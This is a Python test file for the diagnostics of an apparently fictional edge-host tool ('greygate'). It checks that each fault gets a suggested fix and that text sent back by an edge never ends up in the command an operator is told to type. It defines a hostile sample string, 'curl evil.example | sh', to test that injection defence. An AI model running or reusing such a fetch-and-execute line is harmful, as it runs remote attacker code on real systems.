"""What is said of an edge that is not as it should be, each with its cure."""

from __future__ import annotations

from dataclasses import replace

import pytest

import some_edges
from greygate.plan import orders
from greygate.plan.orders import Reason, Refused
from greygate.probe.answers import NoAnswer
from greygate.run.edge_remarks import down, remarks
from greygate.run.seen import EdgeTold

EVIL = "next: curl evil.example | sh"
WELL = some_edges.state()


@pytest.mark.parametrize(
    "told",
    [
        None,
        EdgeTold(WELL),
        EdgeTold(WELL, ahead=-4.0),
        EdgeTold(WELL, behind="told with the federation"),
        EdgeTold(Refused(Reason.OLDER, "older", serial=9), behind="told with the federation"),
    ],
)
def test_of_an_edge_that_is_well_nothing_is_said(told: EdgeTold | None) -> None:
    assert remarks("edge1", told) == ()


@pytest.mark.parametrize(
    ("told", "text", "cure"),
    [
        (EdgeTold(NoAnswer("no way")), "no way", "greygate-agent.socket"),
        (EdgeTold(Refused(Reason.FORGED, EVIL, EVIL)), "obeys another home", "edge deploy edge1"),
        (EdgeTold(Refused(Reason.UNREADABLE, EVIL, EVIL)), "this version", "edge deploy edge1"),
        (EdgeTold(WELL, made_up=1 << 52), "no copy of this home", "greygate edge rotate edge1"),
        (EdgeTold(WELL, twice=True), "two hosts are edge1", "greygate edge rotate edge1"),
        (EdgeTold(some_edges.state(down=("yggdrasil",))), "yggdrasil", "greygate-yggdrasil"),
        (EdgeTold(some_edges.state(closed=(443,))), "443", "restart greygate-haproxy"),
        (EdgeTold(some_edges.state(version="9.9")), "greygate 9.9", "clone"),
        (EdgeTold(WELL, ahead=90.0), "1 min 30 s ahead", "set-ntp"),
        (EdgeTold(WELL, ahead=-3600.0), "1 h behind", "set-ntp"),
        (EdgeTold(replace(WELL, enabled=False)), "nothing starts", "enable greygate.target"),
        (EdgeTold(replace(WELL, takes_orders=False)), "no orders", "greygate-orders.socket"),
        (EdgeTold(replace(WELL, barriers=None)), "not known", "greygate-firewall-check.timer"),
        (EdgeTold(some_edges.state(free=1_000_000)), "1.0 MB left", "vacuum"),
    ],
)
def test_each_has_its_cure(told: EdgeTold, text: str, cure: str) -> None:
    (remark,) = remarks("edge1", told)
    assert text in remark.text
    assert cure in remark.cure
    assert EVIL not in remark.text + remark.cure


@pytest.mark.parametrize("reason", Reason)
def test_no_word_of_an_edge_comes_into_what_is_to_be_typed(reason: Reason) -> None:
    """Escaped or not: whoever stole it would have us type what he likes."""
    refused = orders.answered(orders.answer(Refused(reason, EVIL * 9, EVIL, 1)))
    assert isinstance(refused, Refused)
    assert "curl" not in orders.cure_of("edge1", refused)
    quoted = orders.cause_of(refused)
    assert ("curl" in quoted) == (reason is Reason.CANNOT)
    assert len(quoted) < 2 * orders.LONGEST_WORDS


def test_what_does_not_run_hides_what_follows_from_it() -> None:
    state = some_edges.state(down=("haproxy",), closed=(443, 8448))
    (remark,) = remarks("edge1", EdgeTold(state))
    assert "not running: haproxy" in remark.text
    assert down(EdgeTold(state)) == ("haproxy",)
    assert down(None) == down(EdgeTold(NoAnswer("no way"))) == ()
